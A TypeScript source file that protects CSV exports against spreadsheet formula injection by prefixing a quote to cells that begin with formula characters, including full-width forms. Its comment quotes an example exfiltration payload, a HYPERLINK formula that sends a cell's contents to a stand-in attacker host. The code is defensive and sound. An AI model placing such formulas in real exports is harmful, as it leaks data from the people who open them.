/**
 * CSV files are opened in spreadsheets, which run a cell that looks like a
 * formula: `=HYPERLINK("https://evil.example/?"&A1,"Xem")` in a tip's external
 * reference or an organisation's name would send data away, or worse, from the
 * officer's machine. OWASP's rule: a text cell starting with `=`, `+`, `-`,
 * `@`, a tab or a carriage return (or the full-width `＝ ＋ － ＠`, which
 * spreadsheets also read as formulas) gets a leading `'`, so it is shown as
 * the text it is. Every CSV writer (the CLI export, the supervisors'
 * downloads) passes its text cells through here.
 */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

export function spreadsheetSafe(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** For csv-stringify's `cast` option: every string cell made spreadsheet-safe (numbers stay numbers). */
export const SPREADSHEET_SAFE_CAST = { string: spreadsheetSafe };
